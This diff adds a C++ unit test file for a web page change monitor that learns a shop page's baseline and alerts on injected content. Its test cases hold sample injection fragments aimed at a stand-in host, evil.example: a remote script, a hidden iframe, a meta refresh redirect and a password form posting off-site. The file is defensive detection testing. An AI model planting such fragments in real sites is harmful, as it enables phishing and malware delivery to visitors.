@@ -1,0 +1,141 @@
+#include "lib/change/page_watch.hpp"
+
+#include <gtest/gtest.h>
+
+#include <string>
+
+#include "lib/change/explain.hpp"
+#include "lib/change/memory_codec.hpp"
+#include "lib/html/extract.hpp"
+
+namespace webmon::change {
+namespace {
+
+/// A page of forty paragraphs of different words; `more` stands before its end.
+std::string body(const std::string& more = {}, const std::string& top = {}) {
+  std::string html =
+      "<html><head><title>Bread and cake</title></head><body>" + top + "<h1>Our shop</h1>";
+  for (int i = 0; i < 40; ++i) {
+    const char letter = static_cast<char>('a' + i % 26);
+    html += "<p>loaf " + std::string(3, letter) + " and roll " + std::string(4, letter) + " cost " +
+            std::to_string(i) + "</p>";
+  }
+  return html + "<a href='https://partner.example/'>our partner</a><form action='/find'></form>" +
+         more + "</body></html>";
+}
+
+class PageWatch : public ::testing::Test {
+ protected:
+  Verdict see(const std::string& html) {
+    Page page;
+    page.url = *parse_url("https://shop.example/");
+    page.outcome = Outcome::ok;
+    page.status = 200;
+    page.body = html;
+    page.observed_at = store_time_ms(1'700'000'000'000 + 60'000 * ++minute_);
+    extract_features(page.body, "text/html", page.features);
+    return watch(page, memory_);
+  }
+  void learn(int times = 30) {
+    for (int i = 0; i < times; ++i) ASSERT_FALSE(see(body()).is_alert);
+  }
+  std::string memory_;
+  int minute_ = 0;
+};
+
+bool carries(const Verdict& verdict, Sign sign) {
+  return std::ranges::any_of(verdict.score.parts,
+                             [&](const Part& part) { return part.sign == sign; });
+}
+
+TEST_F(PageWatch, SaysNothingDuringWarmup) {
+  EXPECT_FALSE(see(body()).is_settled);
+  EXPECT_FALSE(see("<title>x</title>").is_alert);
+  learn();
+  EXPECT_TRUE(see(body()).is_settled);
+}
+
+TEST_F(PageWatch, AnInjectionIsAnAlertAndSaysWhatCarriedIt) {
+  struct Case {
+    const char* what;
+    std::string html;
+    Sign sign;
+  };
+  const std::string hidden_frame = "<iframe src='//evil.example/x' width=1 height=1></iframe>";
+  for (const Case& c :
+       {Case{"script", body("<script src='//evil.example/x.js'></script>"), Sign::script_new},
+        Case{"hidden frame", body(hidden_frame), Sign::frame_hidden},
+        Case{"refresh", body("<meta http-equiv=refresh content='0;url=//evil.example/'>"),
+             Sign::refresh_new},
+        Case{"form", body("<form action='//evil.example/'><input type=password></form>"),
+             Sign::form_new},
+        Case{"cut", body().substr(0, 1500), Sign::end_lost}}) {
+    memory_.clear();
+    learn();
+    const Verdict verdict = see(c.html);
+    EXPECT_TRUE(verdict.is_alert) << c.what;
+    EXPECT_TRUE(carries(verdict, c.sign)) << c.what;
+    EXPECT_EQ(explain(verdict).code, "excessive_change");
+  }
+}
+
+TEST_F(PageWatch, MoreOfTheSameIsNoAlert) {
+  learn();
+  EXPECT_FALSE(see(body("<p>loaf aaa and roll bbbb cost 7</p>")).is_alert);
+  EXPECT_FALSE(see(body("<p>loaf ccc and loaf dddd cost 123</p>")).is_alert);
+}
+
+TEST_F(PageWatch, ReturningToAKnownStateIsNoAlert) {
+  learn();
+  ASSERT_TRUE(see(body("<script src='//evil.example/x.js'></script>")).is_alert);
+  EXPECT_FALSE(see(body()).is_alert);
+}
+
+TEST_F(PageWatch, AChangeWithoutSignsOfAttackIsAcceptedWhenItStays) {
+  learn();
+  const std::string with_script = body("<script src='//new.example/x.js'></script>");
+  ASSERT_TRUE(see(with_script).is_alert);
+  EXPECT_FALSE(see(with_script).is_alert);
+  EXPECT_FALSE(see(with_script).is_alert);
+}
+
+TEST_F(PageWatch, OneWithASignOfAttackIsNot) {
+  learn();
+  const std::string bad = body("<meta http-equiv=refresh content='0;url=//evil.example/'>");
+  for (int i = 0; i < 10; ++i) EXPECT_TRUE(see(bad).is_alert) << i;
+}
+
+TEST_F(PageWatch, MemoryIsBoundedAndReadAsItWasWritten) {
+  std::string huge = "<html><body>";
+  for (int i = 0; i < 30'000; ++i) {
+    const std::string n = std::to_string(i * 7919);
+    std::string word;
+    for (const char c : n) word += static_cast<char>('a' + (c - '0'));
+    huge += "<p>" + word + " <a href='https://" + word + ".example/'>" + word + "x</a></p>";
+  }
+  for (int i = 0; i < 25; ++i) see(huge);
+  EXPECT_LE(memory_.size(), kMaxMemory);
+  const auto memory = decode(memory_);
+  ASSERT_TRUE(memory);
+  EXPECT_EQ(encode(*memory), memory_);
+}
+
+TEST_F(PageWatch, BytesThatAreNoMemoryBeginANewOne) {
+  learn();
+  const std::string good = memory_;
+  for (std::size_t size = 0; size < good.size(); size += 13)
+    EXPECT_FALSE(decode(good.substr(0, size)));
+  EXPECT_FALSE(decode(good + "x"));
+  memory_ = good.substr(0, good.size() / 2);
+  EXPECT_FALSE(see(body()).is_settled);
+}
+
+TEST(Signs, EachHasANameAndWords) {
+  for (std::size_t i = 0; i < kSigns; ++i) {
+    EXPECT_FALSE(to_string(static_cast<Sign>(i)).empty()) << i;
+    EXPECT_FALSE(in_words(static_cast<Sign>(i)).empty()) << to_string(static_cast<Sign>(i));
+  }
+}
+
+}  // namespace
+}  // namespace webmon::change
